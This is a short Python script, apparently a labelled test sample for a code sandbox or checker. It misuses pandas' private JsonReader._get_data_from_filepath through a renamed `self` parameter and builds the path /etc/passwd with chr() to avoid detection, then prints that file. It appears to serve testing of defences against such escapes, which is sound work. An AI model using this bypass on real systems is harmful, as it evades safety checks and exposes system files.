# source: pandas 1.5.3 pandas/io/json/_json.py JsonReader._get_data_from_filepath
# family: `self` second parameter -> call an unlisted private library method on a JsonReader
# goal: opens and prints /etc/passwd (path built with chr())
import pandas as pd


class Probe:
    def _get_data_from_filepath(self, p):
        return p

    def grab(this, self, p):
        return self._get_data_from_filepath(p)


rd = pd.read_json('{"a": 1}\n', lines=True, chunksize=1)
p = "".join([chr(47), "etc", chr(47), "passwd"])
h = Probe().grab(rd, p)
print(h.read())
